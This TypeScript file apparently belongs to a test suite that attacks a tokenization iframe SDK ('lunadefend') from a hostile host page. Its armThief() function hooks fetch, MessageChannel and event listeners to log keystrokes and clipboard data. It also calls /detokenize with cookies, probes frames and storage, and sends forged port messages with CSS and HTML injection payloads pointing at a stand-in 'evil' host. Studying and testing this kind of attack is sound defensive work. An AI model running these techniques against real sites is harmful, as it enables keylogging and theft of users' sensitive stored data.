/** What script on the page has to work with. */
export interface Prey {
  readonly tokenizer: string
  readonly app: string
  /** The token of a stored value, which the page holds anyway. */
  readonly token: string
  /** A guess of the stored value, and it is right. */
  readonly guess: string
  /** Another server of the thief. */
  readonly evil: string
}

export interface Loot {
  /** Everything that could be read, heard or guessed, whatever it was. */
  readonly read: string[]
  /** How often each attack was tried. */
  readonly tried: Readonly<Record<string, number>>
  /** Assertions that the app's server signed, for whatever key. */
  readonly assertions: string[]
  /** A yes to a question about the stored value. */
  readonly oracles: string[]
}

declare global {
  interface Window {
    rampage: { begin(prey: Prey): void; typed(): void; end(): Promise<Loot>; loot: Loot }
  }
}

/**
 * Script with full power on the app's page, from before its first own script: hears what can be heard, replaces what can
 * be replaced, and tries all attacks again and again. Runs in the page.
 */
export function armThief(): void {
  if (window !== top) return
  const read: string[] = []
  const assertions: string[] = []
  const oracles: string[] = []
  const tried: Record<string, number> = {}
  let full = 20_000
  const note = (what: unknown): void => {
    try {
      const text = typeof what === 'string' ? what : JSON.stringify(what)
      read.push(text ?? String(what))
    } catch {
      read.push(String(what))
    }
    if (read.length > full) {
      const kept = [...new Set(read)]
      read.length = 0
      for (const line of kept) read.push(line)
      full = kept.length + 20_000
    }
  }
  const ports: MessagePort[] = []
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    tried[name] = (tried[name] ?? 0) + 1
    try {
      const got = await work()
      if (got !== undefined && got !== null) note(got)
    } catch (error) {
      note(String(error))
    }
  }

  // Ears: events, messages, ports, what the page asks its own server, every listener that is added.
  const kinds =
    'message keydown keypress keyup beforeinput input change paste copy cut drag dragstart drop compositionend select selectionchange focusin focusout'
  for (const kind of kinds.split(' '))
    window.addEventListener(kind, (event) => {
      const { key, data } = event as Partial<KeyboardEvent & MessageEvent>
      note([kind, key, data, (event as Partial<ClipboardEvent>).clipboardData?.getData('text')])
      for (const port of (event as Partial<MessageEvent>).ports ?? []) ports.push(port)
    }, true) // biome-ignore format: one line
  const Channel = window.MessageChannel
  window.MessageChannel = class extends Channel {
    constructor() {
      super()
      ports.push(this.port1)
      this.port1.addEventListener('message', ({ data }) => note(['port', data]))
    }
  }
  const post = MessagePort.prototype.postMessage
  MessagePort.prototype.postMessage = function (...given: unknown[]) {
    note(['sent', given[0]])
    return Reflect.apply(post, this, given)
  }
  const ask = window.fetch
  window.fetch = async (...given) => {
    const response = await ask(...given)
    const text = await response.clone().text().catch(() => '') // biome-ignore format: one line
    note(['fetched', String(given[0]), text])
    const signed = /"assertion":"([^"]+)"/.exec(text)?.[1]
    if (signed !== undefined) assertions.push(signed)
    return response
  }
  const listen = EventTarget.prototype.addEventListener
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    if (type === 'message') listen.call(this, type, (event) => note((event as MessageEvent).data))
    return listen.call(this, type, listener, options)
  }
  new PerformanceObserver((list) => note(list.getEntries())).observe({ type: 'resource', buffered: true })
  let goes = true
  /** Who takes the focus from a field gets the keys: docs/threat-model.md says so. It is not done while the user types. */
  const MOVES_FOCUS = /of its own$|questions|selecting/
  let isTyping = true
  let done: Promise<unknown> = Promise.resolve()

  const frames = (): HTMLIFrameElement[] => {
    const roots: ParentNode[] = [document]
    for (const element of document.querySelectorAll('*'))
      if (element.shadowRoot) roots.push(element.shadowRoot)
    return roots.flatMap((root) => [...root.querySelectorAll('iframe')])
  }
  const loaded = (element: HTMLElement, ms = 400): Promise<void> =>
    new Promise((resolve) => {
      element.addEventListener('load', () => resolve())
      setTimeout(resolve, ms)
    })
  const withFrame = async (
    set: (iframe: HTMLIFrameElement) => void,
    then: (iframe: HTMLIFrameElement) => unknown,
  ) => {
    const iframe = document.createElement('iframe')
    set(iframe)
    document.body.append(iframe)
    await loaded(iframe)
    try {
      return await then(iframe)
    } finally {
      iframe.remove()
    }
  }
  const look = (iframe: HTMLIFrameElement): string => {
    const seen: string[] = []
    const inner = iframe.contentWindow as Window & Record<string, unknown>
    const ways: (() => unknown)[] = [
      () => iframe.contentDocument?.documentElement.outerHTML,
      () => inner.document.body.innerText,
      () => inner.location.href,
      () => inner['name'],
      () => inner.getSelection()?.toString(),
      () => inner.length,
      () => Object.getOwnPropertyNames(inner).join(),
      () => inner.localStorage,
      () => inner.history.state,
      () => inner.performance.getEntries(),
      () => iframe.getSVGDocument(),
      () => [iframe.scrollWidth, iframe.clientHeight, iframe.getBoundingClientRect().width],
      () => (Reflect.get(inner, 'eval') as typeof eval)('document.body.innerText'),
    ]
    for (const way of ways) {
      try {
        seen.push(JSON.stringify(way()) ?? '')
      } catch (error) {
        seen.push(String(error))
      }
    }
    return seen.join('\n')
  }

  const attacks = (prey: Prey): Record<string, () => unknown> => {
    const { tokenizer, app, token, guess, evil } = prey
    const frameUrl = `${tokenizer}/frame?app=${app}&component=paragraph`
    const call = (path: string, method: string, body: object | null): Promise<unknown>[] =>
      ['cors', 'no-cors'].flatMap((mode) =>
        ['application/json', 'text/plain'].map(
          (type) =>
          ask(tokenizer + path, {
            method: mode === 'no-cors' && method === 'DELETE' ? 'POST' : method,
            mode: mode as RequestMode,
            credentials: 'include',
            headers: { 'content-type': type },
            body: body === null ? null : JSON.stringify(body),
          }).then(async (response) => note([path, response.status, response.type, await response.text()]), note), // biome-ignore format: one line
        ),
      )
    return {
      'calls with the cookie': () =>
        Promise.all([
          ...call('/detokenize', 'POST', { tokenId: token }),
          ...call('/tokenize', 'POST', {}),
          ...call('/metadata/get', 'POST', { tokenId: token }),
          ...call('/session', 'GET', null),
        ]).then(() => undefined),
      'a beacon with the cookie': () => navigator.sendBeacon(`${tokenizer}/detokenize`, new Blob([JSON.stringify({ tokenId: token })], { type: 'text/plain' })), // biome-ignore format: one line
      'looking into the frames': () => frames().map(look),
      'all that the document holds': () => {
        const texts: string[] = []
        const walk = (node: Node): void => {
          texts.push(node.nodeValue ?? '')
          if (node instanceof Element)
            texts.push(node.outerHTML.slice(0, 2000), String(Reflect.get(node, 'value')))
          if (node instanceof Element && node.shadowRoot) walk(node.shadowRoot)
          for (const child of node.childNodes) walk(child)
        }
        walk(document)
        return texts.join('\n')
      },
      'stores of the browser': async () => [
        document.cookie,
        { ...localStorage },
        { ...sessionStorage },
        await indexedDB.databases(),
        await caches.keys(),
        window.name,
        history.state,
        String(opener),
      ],
      'times and sizes': () => [
        performance.getEntries(),
        frames().map((iframe) => iframe.getBoundingClientRect()),
      ],
      'locks and channels of the frames': async () => {
        const names = [`lunadefend/${app}`, `lunadefend/${app}/session`]
        const channels = names.map((name) => new BroadcastChannel(name))
        for (const channel of channels) channel.onmessage = ({ data }) => note(['channel', data])
        for (const channel of channels) channel.postMessage({ type: 'ask' })
        const held = await navigator.locks.query()
        await new Promise((resolve) => setTimeout(resolve, 50))
        for (const channel of channels) channel.close()
        return held
      },
      'messages to the windows of the frames': () => {
        for (const iframe of frames()) {
          const { port1, port2 } = new Channel()
          port1.onmessage = ({ data }) => note(['second port', data])
          const connect = { type: 'lunadefend.connect', page: 'a'.repeat(32) }
          iframe.contentWindow?.postMessage(connect, '*', [port2])
          iframe.contentWindow?.postMessage({ type: 'reveal' }, '*')
          for (const type of ['configure', 'tokenize', 'load'])
            port1.postMessage({ type, id: 1, tokenId: token })
        }
      },
      'whatever over the ports of the SDK': () => {
        const messages = [
          { type: 'reveal', id: 9001 },
          { type: 'load', id: 9002, tokenId: token, echo: true },
          { type: 'style', backgroundColor: `url(${evil}/style)`, fontFamily: `x;src:url(${evil}/font)` },
          { type: 'update', label: `<img src=${evil}/label>`, __proto__: { value: true } },
          { type: 'configure', pattern: '.*', maxLength: 1 },
          { type: 'session', session: { id: 'x' } },
          { type: 'assertion', id: 1, assertion: assertions.at(-1) ?? 'x' },
          'tokenize',
          null,
        ]
        for (const port of ports.slice(-40))
          for (const message of messages) Reflect.apply(post, port, [message])
      },
      'questions about the stored value': async () => {
        for (const pattern of [guess, `${guess.slice(0, 3)}.*`, `(?!${guess.slice(0, 3)}).*`]) {
          const answers = await withFrame(
            (iframe) => {
              iframe.setAttribute('sandbox', 'allow-scripts allow-same-origin')
              iframe.src = frameUrl.replace('paragraph', 'input')
            },
            (iframe) => connectTo(iframe, [{ type: 'configure', pattern, maxLength: 30 }, { type: 'load', id: 1, tokenId: token }]), // biome-ignore format: one line
          )
          const fills = (answers as { type: string; fill?: string }[]).flatMap(({ fill }) => fill ?? [])
          if (fills.some((fill) => fill !== 'prefilled' && fill !== 'empty')) oracles.push(fills.join())
        }
        const found = Reflect.get(window, 'find')?.call(window, guess, true, false, true, false, true)
        if (found) oracles.push('window.find')
      },
      'frames of its own': () =>
        Promise.all([
          withFrame((iframe) => { iframe.src = `${frameUrl}&origin=${evil}` }, look),
          withFrame((iframe) => { iframe.srcdoc = `<iframe src="${frameUrl}"></iframe>` }, look),
          withFrame((iframe) => { iframe.src = frameUrl; iframe.setAttribute('sandbox', 'allow-scripts') }, look),
          withFrame((iframe) => { iframe.src = `javascript:fetch('${tokenizer}/session').then(r=>r.text())` }, look),
          withFrame((iframe) => { iframe.src = frameUrl; iframe.name = token }, (iframe) => { iframe.src = 'about:blank'; return loaded(iframe).then(() => look(iframe)) }),
        ]), // biome-ignore format: one line each
      'windows of its own': async () => {
        const opened = window.open(frameUrl)
        await new Promise((resolve) => setTimeout(resolve, 100))
        try {
          note([opened?.document.body.innerText, opened?.location.href])
        } finally {
          opened?.close()
        }
      },
      'scripts, styles and pictures of the Tokenizer': () => {
        for (const [tag, key] of [
          ['script', 'src'],
          ['img', 'src'],
          ['link', 'href'],
        ] as const) {
          // biome-ignore format: one line
          const element = Object.assign(document.createElement(tag), { [key]: frameUrl, rel: 'stylesheet' })
          document.body.append(element)
          void loaded(element).then(() => element.remove())
        }
      },
      'cookies of its own': () => {
        // biome-ignore lint/suspicious/noDocumentCookie: a thief plants them as he can
        for (let n = 0; n < 3; n++) document.cookie = `access_token=${'x'.repeat(42)}${n}; path=/`
      },
      'its own key, signed by the app': async () => {
        const { challenge } = await ask(`${tokenizer}/session/challenge`, { method: 'POST', body: JSON.stringify({ app }), headers: { 'content-type': 'text/plain' } }).then((r) => r.json(), () => ({ challenge: 'x'.repeat(60) })) // biome-ignore format: one line
        const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign'])
        const { x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey)
        const members = new TextEncoder().encode(`{"crv":"P-256","kty":"EC","x":"${x}","y":"${y}"}`)
        const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', members))
        const thumbprint = btoa(String.fromCharCode(...digest)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '') // biome-ignore format: one line
        await window.fetch('/.lunadefend/session', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ thumbprint, challenge }),
        })
      },
      'selecting, copying, finding, printing to text': () => {
        document.execCommand('selectAll')
        document.execCommand('copy')
        return [String(getSelection()), document.body.innerText]
      },
      'worker of the app': async () => {
        const { serviceWorker } = navigator
        serviceWorker.onmessage = ({ data }) => note(['worker', data])
        await serviceWorker.register('/worker.js')
      },
    }
  }

  /** Plays the page towards a frame of its own, and hears what it says for a moment. */
  async function connectTo(iframe: HTMLIFrameElement, messages: readonly object[]): Promise<unknown[]> {
    const heard: unknown[] = []
    const { port1, port2 } = new Channel()
    port1.onmessage = async ({ data }) => {
      heard.push(data)
      note(['own frame', data])
      if (data.type !== 'need-assertion') return
      const { thumbprint, challenge, id } = data
      const response = await window.fetch('/.lunadefend/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ thumbprint, challenge }) }) // biome-ignore format: one line
      const { assertion } = await response.json().catch(() => ({ assertion: 'x' }))
      Reflect.apply(post, port1, [{ type: 'assertion', id, assertion }])
    }
    iframe.contentWindow?.postMessage({ type: 'lunadefend.connect', page: 'b'.repeat(32) }, '*', [port2])
    for (const message of messages) Reflect.apply(post, port1, [message])
    const until = performance.now() + 1500
    while (performance.now() < until && !JSON.stringify(heard).includes('"loaded"'))
      await new Promise((resolve) => setTimeout(resolve, 25))
    return heard
  }

  async function round(prey: Prey): Promise<void> {
    for (const [name, work] of Object.entries(attacks(prey)))
      if (!(isTyping && MOVES_FOCUS.test(name))) await attempt(name, work)
  }

  async function go(prey: Prey): Promise<void> {
    while (goes) await round(prey)
    await round(prey)
  }

  window.rampage = {
    loot: { read, tried, assertions, oracles },
    begin: (prey) => {
      done = go(prey)
    },
    typed() {
      isTyping = false
    },
    async end() {
      goes = false
      await done
      return window.rampage.loot
    },
  }
}
